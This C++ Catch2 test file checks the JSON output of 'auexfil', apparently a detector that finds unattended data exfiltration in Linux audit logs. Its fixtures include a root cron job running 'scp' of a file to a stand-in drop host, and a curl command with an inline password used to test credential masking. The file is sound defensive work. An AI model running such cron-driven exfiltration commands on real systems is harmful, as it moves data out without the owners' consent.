#include "auexfil/report/json.hpp"

#include <string>

#include <catch2/catch.hpp>

#include "sample.hpp"

using namespace auexfil;
using report::append_json;
using report::Options;

namespace {

template <typename... T>
std::string json(const T&... values) {
  std::string out;
  append_json(out, values...);
  return out;
}

}  // namespace

TEST_CASE("JSON: a transfer is DESIGN's record, field by field") {
  CHECK(
      json(sample::fact()) ==
      R"({"type":"transfer","schema":1,"id":"9f0c000000000001","host":"etl-01","node":null,)"
      R"("start":"2026-12-02T01:02:01.113Z","end":"2026-12-02T01:02:04.870Z",)"
      R"("tool":"scp","side":"client","direction":"out",)"
      R"("automation":{"verdict":"unattended","scripted":false,"reasons":[)"
      R"j({"sign":"cron","text":"started by cron (pid 311)","event":"1796173321.113:512"},)j"
      R"({"sign":"no-terminal","text":"no terminal","event":null}],)"
      R"("job":{"kind":"cron","what":"/bin/sh -c scp -q f drop@203.0.113.11:up/","artefact":null}},)"
      R"("user":{"auid":0,"auid_name":"root","uid":0,"uid_name":"root","ses":3},)"
      R"("process":{"pid":811,"ppid":810,"exe":"/usr/bin/scp","comm":"scp",)"
      R"("argv":["scp","-q","f","drop@203.0.113.11:up/"],"cwd":"/root","script":null},)"
      R"("lineage":[{"pid":810,"exe":"/usr/bin/dash","comm":"sh",)"
      R"("argv":["/bin/sh","-c","scp -q f drop@203.0.113.11:up/"]},)"
      R"({"pid":311,"exe":"/usr/sbin/cron","comm":"cron","argv":["/usr/sbin/cron","-f"]},)"
      R"({"pid":1,"exe":"/usr/lib/systemd/systemd","comm":"systemd","argv":[]}],)"
      R"("destinations":[{"address":"203.0.113.11","port":22,"transport":"tcp","name":null,)"
      R"("source":"connect","direction":"out","bytes_out":3153717,"bytes_in":null,)"
      R"("basis":"measured","connections":1,)"
      R"("first":"2026-12-02T01:02:01.113Z","last":"2026-12-02T01:02:04.870Z"}],)"
      R"("bytes_out":3153717,"bytes_in":null,"basis":"measured",)"
      R"("evidence":[{"file":"audit.log.3","line":1234,"event":"1796173321.480:530","what":"connect"}],)"
      R"("notes":[]})"
      "\n");
}

TEST_CASE("JSON: what the log cannot say is null, never 0") {
  const std::string line = json(sample::unmeasured_fact());
  CHECK(line.find(R"("host":null,"node":null)") != std::string::npos);
  CHECK(line.find(R"("job":null)") != std::string::npos);
  CHECK(
      line.find(R"("user":{"auid":null,"auid_name":null,"uid":0,"uid_name":"root","ses":null})") !=
      std::string::npos);
  CHECK(line.find(R"({"address":null,"port":null,"transport":"unknown","name":"drop.example.org",)"
                  R"("source":"argv","direction":"unknown","bytes_out":null,"bytes_in":null,)"
                  R"("basis":"unknown","connections":0,"first":null,"last":null})") !=
        std::string::npos);
  CHECK(line.find(R"("bytes_out":null,"bytes_in":null,"basis":"unknown","evidence")") !=
        std::string::npos);
}

TEST_CASE("JSON: a finding is DESIGN's record, later fields behind it") {
  CHECK(
      json(sample::finding()) ==
      R"({"type":"finding","schema":1,"id":"00000000000000ab","rule":"bulk-unattended",)"
      R"("analytic":"AN1170","technique":["T1071.002","T1048"],"severity":"high","host":"etl-01",)"
      R"("role":"default","group":{"host":"etl-01","destination":"203.0.113.11"},)"
      R"("window":{"start":"2026-12-02T01:02:01.113Z","end":"2026-12-02T01:02:04.870Z",)"
      R"("limit_bytes":1048576,"length_s":86400},"bytes_out":3153717,"basis":"measured",)"
      R"("destinations":[{"address":"203.0.113.11","port":22,"bytes_out":3153717,"basis":"measured"}],)"
      R"("transfers":["9f0c000000000001"],"user":"root","tool":"scp",)"
      R"("job":{"kind":"cron","what":"/bin/sh -c scp -q f drop@203.0.113.11:up/","artefact":null},)"
      R"("automation":"unattended",)"
      R"j("reasons":["started by cron (pid 311)","203.0.113.11 is on no allowlist"],)j"
      R"("auid_user":"root","script":null,"command":["scp","-q","f","drop@203.0.113.11:up/"],)"
      R"("chain":["cron","sh"],"update":false})"
      "\n");
}

TEST_CASE("JSON: a limit of connections stands at the end of the window") {
  policy::Finding finding = sample::finding();
  finding.limit_bytes = {};
  finding.limit_connections = 500;
  finding.bytes_out = {};
  const std::string line = json(finding);
  CHECK(line.find(
            R"("limit_bytes":null,"length_s":86400,"limit_connections":500},"bytes_out":null)") !=
        std::string::npos);
}

TEST_CASE("JSON: coverage and its gaps") {
  coverage::HostCoverage host = sample::coverage("bk-07", coverage::CoverageVerdict::partial);
  host.reasons = {"records were lost"};
  host.execs = true;
  host.gaps = {{sample::kStart, sample::kEnd, "backlog"}};
  CHECK(
      json(host) ==
      R"({"type":"coverage","schema":1,"host":"bk-07","node":null,"verdict":"partial",)"
      R"("reasons":["records were lost"],"first":"2026-12-02T01:02:01.113Z",)"
      R"("last":"2026-12-02T01:02:04.870Z","execs":true,"connects":false,"bytes":false,)"
      R"("descriptors":false,"gaps":[{"from":"2026-12-02T01:02:01.113Z",)"
      R"("to":"2026-12-02T01:02:04.870Z","why":"backlog"}],"unattributed":null,"unaddressed":null,"jobs":[]})"
      "\n");
}

TEST_CASE("JSON: a host without events has no first and no last") {
  CHECK(json(coverage::HostCoverage{}).find(R"("first":null,"last":null)") != std::string::npos);
}

TEST_CASE("JSON: the summary, with and without a judgement") {
  coverage::ReadSummary read;
  read.inputs = {{"audit.log", "read", ""}, {"x.gz", "damaged", "cut short"}};
  read.events = 4;
  read.records = 9;
  read.bytes_read = 1000;
  read.malformed = {{"odd_hex", 2}};
  read.complete = false;
  report::Counts counts;
  counts.transfers = 3;
  const std::string begin =
      R"({"type":"summary","schema":1,"complete":false,"inputs":[)"
      R"({"name":"audit.log","status":"read","note":""},)"
      R"({"name":"x.gz","status":"damaged","note":"cut short"}],)"
      R"("events":4,"records":9,"bytes_read":1000,"malformed":{"odd_hex":2},"bounds":{},"transfers":3)";
  CHECK(json(read, counts) == begin + "}\n");
  counts.judged = report::Counts::Judged{1, 2, 0, 3};
  CHECK(json(read, counts) == begin + R"(,"approved":1,"unmeasured":2,"findings":0,"exit":3,)"
                                      R"("standing":null,"withdrawn":[]})"
                                      "\n");
  counts.judged->standing = 4;
  counts.judged->withdrawn = {1, 0xfedcba9876543210};
  CHECK(json(read, counts) ==
        begin + R"(,"approved":1,"unmeasured":2,"findings":0,"exit":3,"standing":4,)"
                R"("withdrawn":["0000000000000001","fedcba9876543210"]})"
                "\n");
}

TEST_CASE("JSON: credentials are masked wherever a command line stands, unless asked not to") {
  facts::Fact fact = sample::fact();
  fact.process.argv = {"curl", "-u", "me:hunter2", "ftp://h/"};
  fact.lineage[0].argv = {"sh", "-c", "curl -u me:hunter2 ftp://h/"};
  fact.job->what = "/bin/sh -c curl -u me:hunter2 ftp://h/";
  fact.reasons[0].text = "started by cron: curl -u me:hunter2 ftp://h/";
  fact.notes = {"also ftp://me:hunter2@h/"};
  CHECK(json(fact).find("hunter2") == std::string::npos);
  CHECK(json(fact, Options{false, false, false}).find("hunter2") != std::string::npos);

  policy::Finding finding = sample::finding();
  finding.group.emplace_back("job", "curl -u me:hunter2 ftp://h/");
  finding.job->what = fact.job->what;
  finding.command = fact.process.argv;
  finding.chain = {"cron", "ftp://me:hunter2@h"};
  finding.reasons = {fact.reasons[0].text};
  CHECK(json(finding).find("hunter2") == std::string::npos);
  CHECK(json(finding, Options{false, false, false}).find("hunter2") != std::string::npos);
}
